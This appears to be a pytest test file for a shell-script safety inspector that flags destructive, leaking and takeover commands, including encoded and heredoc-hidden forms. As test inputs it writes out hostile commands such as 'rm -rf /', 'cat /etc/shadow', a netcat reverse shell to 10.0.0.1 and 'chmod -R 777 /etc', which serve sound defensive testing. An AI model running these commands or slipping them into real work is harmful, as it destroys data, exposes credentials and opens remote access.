"""Shell scripts: what destroys, leaks, stays or takes over fails, however it is written."""

import pytest
from tests.corpora import code_shell as corpus

from qwed.domain.findings import Status
from qwed.engines.code import inspect_shell


def rules(text):
    return [problem.rule for problem in inspect_shell(text).problems]


@pytest.mark.parametrize("text", corpus.HARMFUL)
def test_a_harmful_script_fails_as_forbidden(text):
    assert inspect_shell(text).harms


@pytest.mark.parametrize("text", corpus.HARMLESS)
def test_an_everyday_command_raises_no_alarm(text):
    assert inspect_shell(text).status is Status.VERIFIED, rules(text)


@pytest.mark.parametrize("text", corpus.UNDECIDABLE)
def test_what_depends_on_an_expansion_nobody_knows_is_uncertain(text):
    assert inspect_shell(text).status is Status.UNCERTAIN, rules(text)


@pytest.mark.parametrize("text", corpus.PURE)
def test_a_script_that_only_prints_is_pure(text):
    assert inspect_shell(text).pure


@pytest.mark.parametrize(
    "text", ["while :; do echo x; done", "cat x", "echo x > y", "make", "echo $(date; curl x)"]
)
def test_a_script_that_may_not_end_or_reaches_outside_is_not_pure(text):
    assert not inspect_shell(text).pure


def test_every_spelling_of_a_recursive_deletion_is_found():
    missed = [text for text in corpus.deletions() if not inspect_shell(text).harms]

    assert missed == []


@pytest.mark.parametrize(
    "command", ["rm -rf /", "cat /etc/shadow", "nc -e /bin/sh 10.0.0.1 99", "chmod -R 777 /etc", "useradd x"]
)
def test_every_encoding_of_a_harmful_command_is_read_through(command):
    for text in corpus.encoded(command):
        assert inspect_shell(text).harms, text


@pytest.mark.parametrize("command", ["ls -la", "git status", "echo done"])
def test_an_encoded_harmless_command_is_verified(command):
    for text in corpus.encoded(command):
        assert inspect_shell(text).status is Status.VERIFIED, (text, rules(text))


def test_a_problem_names_its_line():
    (problem,) = inspect_shell("ls\ncd src\nrm -rf /etc\n").problems

    assert (problem.rule, problem.line, problem.text) == ("destructive-command", 3, "rm -rf /etc")


def test_code_of_another_language_is_inspected_by_its_own_inspector():
    (problem,) = inspect_shell("python3 -c 'import pickle; pickle.loads(input())'").problems

    assert problem.rule == "unsafe-deserialisation"
    assert problem.flow[0].startswith("line 1: python3 -c")


def test_a_script_written_and_then_run_is_read():
    assert "destructive-command" in rules("printf 'rm -rf /' > a\nsh a\n")
    assert rules("printf 'ls' > a\nsh a\n") == []


def test_a_variable_set_in_one_branch_is_known_no_longer():
    assert inspect_shell("x=ls\nif true; then x=pwd; fi\n$x\n").status is Status.UNCERTAIN


@pytest.mark.parametrize(
    "before", ["a | b | c -c", "export A=1", "unset B", "ls -la", "grep -c x y | sort | uniq -c"]
)
@pytest.mark.parametrize("harmful", ["sh <<X\nrm -rf /\nX", "\\rm -rf ~", "cat > a <<X\nrm -rf /\nX\nsh a"])
def test_a_line_that_the_grammar_reads_on_from_the_one_before_is_still_seen(before, harmful):
    assert inspect_shell(before + "\n" + harmful).harms


def test_text_that_does_not_parse_is_malformed():
    verdict = inspect_shell("if true; then")

    assert verdict.status is Status.FAILED
    assert verdict.malformed == "line 1: unexpected text"


def test_our_own_marks_in_the_text_change_nothing():
    assert inspect_shell("echo \ue000\ue001").status is Status.VERIFIED
    assert inspect_shell("rm -rf / \ue000").harms
